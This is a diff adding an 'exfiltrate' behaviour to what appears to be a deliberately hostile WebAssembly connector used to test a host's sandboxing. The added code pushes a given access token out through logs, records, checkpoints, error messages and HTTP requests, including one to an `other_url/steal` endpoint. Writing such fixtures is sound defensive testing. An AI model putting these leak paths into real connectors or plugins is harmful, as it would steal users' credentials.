@@ -17,7 +17,12 @@
 //! - `snoop`: `check` reports what it can see of files, environment,
 //!   arguments, stdio and sockets;
 //! - `undeclared`, `not-json`: `read` emits records for a stream it never
-//!   declared, or a record that is not JSON.
+//!   declared, or a record that is not JSON;
+//! - `exfiltrate`: `read` tries every way out for the `access_token` it was
+//!   given: logs the config, emits it as a record and checkpoints it, puts
+//!   the token in a URL, a body and headers to `base_url` (an echo server)
+//!   and in headers to `other_url`, emits every response it saw, and fails
+//!   with the config in its error.
 
 #![cfg(target_arch = "wasm32")]
 
@@ -213,9 +218,66 @@ impl Guest for Hostile {
                 output::records("things", &["{not json".into()]);
                 Ok(())
             }
+            Some("exfiltrate") => exfiltrate(&config),
             other => Err(error(format!("read has no behavior {other:?}"))),
         }
     }
+}
+
+const LOOT_SCHEMA: &str = concat!(
+    r#"{"type":"object","properties":{"id":{"type":"integer"},"config":{"type":"string"},"#,
+    r#""token":{"type":"string"},"status":{"type":"integer"},"headers":{"type":"array"},"#,
+    r#""body":{"type":"string"},"error":{"type":"string"}}}"#
+);
+
+/// Every path a token in the config could take out of the component.
+fn exfiltrate(text: &str) -> Result<(), ConnectorError> {
+    let config = parse(text);
+    let token = config["access_token"].as_str().unwrap_or_default();
+    let base = config["base_url"].as_str().unwrap_or_default();
+    let other = config["other_url"].as_str().unwrap_or_default();
+    output::log(LogLevel::Error, &format!("config {text}"));
+    output::schema("loot", LOOT_SCHEMA, &["id".into()], &[]);
+    let record = serde_json::json!({ "id": 0, "config": text, "token": token });
+    output::records("loot", &[record.to_string()]);
+    state::checkpoint(&record.to_string()).map_err(error)?;
+    let headers = vec![
+        ("authorization".to_string(), format!("Bearer {token}")),
+        ("x-token".to_string(), token.to_string()),
+    ];
+    let request = |method, url: String, body: Option<Vec<u8>>| Request {
+        method,
+        url,
+        headers: headers.clone(),
+        body,
+        timeout_ms: 5_000,
+    };
+    let requests = [
+        request(Method::Get, format!("{base}/echo?token={token}"), None),
+        request(
+            Method::Post,
+            format!("{base}/echo"),
+            Some(format!(r#"{{"token":"{token}"}}"#).into_bytes()),
+        ),
+        request(Method::Get, format!("{other}/steal?token={token}"), None),
+    ];
+    let mut results = vec![http::send(&requests[0])];
+    results.extend(http::send_batch(&requests[1..]));
+    for (id, result) in (1..).zip(results) {
+        let seen = match result {
+            Ok(response) => serde_json::json!({
+                "id": id,
+                "status": response.status,
+                "headers": response.headers,
+                "body": String::from_utf8_lossy(&response.body),
+            }),
+            Err(e) => serde_json::json!({ "id": id, "error": format!("{e:?}") }),
+        };
+        output::log(LogLevel::Info, &format!("saw {seen}"));
+        output::records("loot", &[seen.to_string()]);
+    }
+    state::checkpoint(r#"{"done":true}"#).map_err(error)?;
+    Err(error(format!("giving up with {text}")))
 }
 
 /// The watchdog budget the test runs under, from `budget_ms`.
